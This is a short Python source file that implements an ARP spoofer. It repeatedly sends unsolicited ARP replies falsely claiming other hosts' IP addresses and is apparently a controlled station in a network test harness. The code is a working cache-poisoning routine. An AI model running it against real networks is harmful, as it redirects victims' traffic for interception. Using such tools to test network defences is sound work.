# SPDX-License-Identifier: GPL-2.0-or-later
"""A station that tells others by unsolicited unicast replies that addresses are its own."""

import os
import select

from packets import ARP_REPLY, arp, ip_bytes, mac_bytes, open_raw


def run_spoofer(device, mac, lies, commands, answers):
    """lies: rows of claimed address, victim's MAC, victim's address; repeated until killed."""
    handle, own = open_raw(device), mac_bytes(mac)
    frames = [arp(ARP_REPLY, own, ip_bytes(claimed), mac_bytes(victim), ip_bytes(ip))
              for claimed, victim, ip in lies]
    os.write(answers, b"ready\n")
    while True:
        for frame in frames:
            handle.send(frame)
        if select.select([commands], [], [], 1)[0]:
            return
